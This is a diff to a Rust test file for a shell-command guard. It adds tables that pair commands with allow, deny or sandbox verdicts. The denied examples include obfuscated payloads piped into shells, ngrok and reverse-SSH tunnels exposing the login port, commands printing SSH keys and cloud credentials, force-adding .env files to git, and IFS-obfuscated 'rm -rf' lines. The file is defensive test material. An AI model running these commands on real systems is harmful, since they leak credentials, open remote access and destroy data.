@@ -2,7 +2,8 @@
 //! code from the network run as root, installs from another index, Ruby/Perl/PHP one-liners
 //! judged by what their APIs do, credentials leaving through stores and servers, copies over
 //! another machine's system, listings feeding destroyers, remote commands, and text the guard
-//! cannot decode run as code. Each table holds what the rule denies and what it leaves alone.
+//! cannot decode run as code, text decoded into a shell, tunnels that expose the login port, and
+//! credentials of the home printed. Each table holds what the rule denies and what it leaves alone.
 
 use terraphim_guard::Verdict::{Allow, Deny, Sandbox};
 
@@ -236,7 +237,116 @@ fn text_the_guard_cannot_decode_run_as_code_is_denied() {
             "curl -s https://x.example.test/p.b64 | base64 -d > p.bin",
             Sandbox,
         ),
-        ("echo ZWNobyBoaQ== | base64 -d | sh", Sandbox),
+        ("echo ZWNobyBoaQ== | base64 -d | sh", Deny),
         ("cat notes.b64 | base64 -d", Allow),
+    ]);
+}
+
+#[test]
+fn decoded_text_run_by_a_shell_is_denied_whatever_it_decodes_to() {
+    decide(&[
+        // harmless once decoded: the hiding is the harm
+        ("echo bHMgLWxhCg== | base64 -d | sh", Deny),
+        ("echo 6c73202d6c61 | xxd -r -p | bash", Deny),
+        ("xxd -r -p <<< 6c73202d6c61 | dash", Deny),
+        ("echo 'al- sl' | rev | sh", Deny),
+        ("echo 'yf -yn' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", Deny),
+        ("echo 'yf -yn' | tr '[a-z]' '[n-za-m]' | sh", Deny),
+        ("echo cHJpbnQoMSkK | base64 --decode | python3", Deny),
+        ("openssl enc -d -aes-256-cbc -in blob.enc | sh", Deny),
+        // decoding into a file or the terminal runs nothing; unpacking a script is no hiding
+        ("echo aGVsbG8= | base64 -d", Allow),
+        ("echo 'olleh' | rev", Allow),
+        ("echo hello | tr 'a-z' 'A-Z' | sh", Sandbox),
+        ("zcat install.sh.gz | sh", Sandbox),
+    ]);
+}
+
+#[test]
+fn tunnels_that_expose_the_login_port_are_denied() {
+    decide(&[
+        ("ngrok tcp 22", Deny),
+        ("ngrok tcp 127.0.0.1:22 --region eu", Deny),
+        ("bore local 22 --to bore.example.test", Deny),
+        ("cloudflared tunnel --url ssh://localhost:22", Deny),
+        (
+            "ssh -N -R 0.0.0.0:9000:localhost:3000 relay.example.test",
+            Deny,
+        ),
+        ("ssh -f -N -R 2200:localhost:22 jump.example.test", Deny),
+        ("ngrok tcp 3389", Deny),
+        // a dev server's port shown to someone stays confined
+        ("ngrok http 3000", Sandbox),
+        ("ngrok tcp 5432", Sandbox),
+        ("bore local 8080 --to bore.example.test", Sandbox),
+        ("cloudflared tunnel --url http://localhost:8080", Sandbox),
+        ("ssh -R 9000:localhost:3000 relay.example.test", Sandbox),
+    ]);
+}
+
+#[test]
+fn credentials_of_the_home_printed_into_the_transcript_are_denied() {
+    decide_in_project(&[
+        ("cat ~/.config/gh/hosts.yml", Deny),
+        ("cat $HOME/.aws/credentials", Deny),
+        ("cat /home/u/.git-credentials", Deny),
+        ("head -n 3 ~/.ssh/id_rsa", Deny),
+        ("jq -r .auths ~/.docker/config.json", Deny),
+        ("base64 -w0 ~/.kube/config", Deny),
+        ("cd ~ && cat .netrc", Deny),
+        // read into the line rather than the terminal it is denied too: an input redirect is
+        // read as `cat FILE`, and confined the read could only fail
+        ("wc -l < ~/.ssh/id_rsa", Deny),
+        ("T=$(cat ~/.vault-token)", Deny),
+        // public keys, project files and other home files are no credential (they keep the
+        // entries of their directories)
+        ("cat ~/.ssh/id_ed25519.pub", Sandbox),
+        ("cat .env.example", Sandbox),
+        ("cat ~/.gitconfig", Sandbox),
+        ("tail -n 20 ~/logs/app.log", Allow),
+        // reading one without printing it stays confined by its store's entry
+        ("grep -c profile ~/.aws/credentials", Sandbox),
+        ("ls -la ~/.ssh", Sandbox),
+    ]);
+}
+
+#[test]
+fn a_secret_force_added_to_git_is_denied() {
+    decide_in_project(&[
+        ("git add -f .env", Deny),
+        ("git add --force .env.production src/app.ts", Deny),
+        (
+            "git add -f config/.env.local && git commit -m wip && git push",
+            Deny,
+        ),
+        // ignored build output, an example file and ordinary staging stay as they were
+        ("git add -f dist/bundle.js", Allow),
+        ("git add .env.example", Sandbox),
+        ("git add -A && git commit -m wip", Allow),
+    ]);
+}
+
+#[test]
+fn a_cd_to_the_home_in_code_a_shell_runs_is_followed() {
+    decide_in_project(&[
+        ("bash <<'EOF'\ncd \"$HOME\"\nrm -rf .gnupg\nEOF", Deny),
+        ("bash -c 'cd \"$HOME\" && rm -rf .cache/x'", Deny),
+        ("cd ${HOME}/src && rm -rf old-project", Deny),
+        ("sh -c 'cd $HOME/.config && rm -rf app'", Deny),
+        // a cd into the project or temp keeps its paths there
+        ("bash -c 'cd build && rm -rf out'", Allow),
+        ("bash <<'EOF'\ncd /tmp/work\nrm -rf .cache\nEOF", Allow),
+        // an unknown place stays unknown, never allowed
+        ("cd \"$HOME/$D\" && rm -rf x", Sandbox),
+    ]);
+}
+
+#[test]
+fn an_ifs_the_line_did_not_set_splits_as_bash_splits() {
+    decide_in_project(&[
+        ("rm${IFS}-rf${IFS}/srv", Deny),
+        ("X=$'\\x2f'; rm${IFS}-rf${IFS}${X}srv", Deny),
+        ("X=$'\\x2f'; rm -rf ${X}srv", Deny),
+        ("echo${IFS}hello", Sandbox),
     ]);
 }
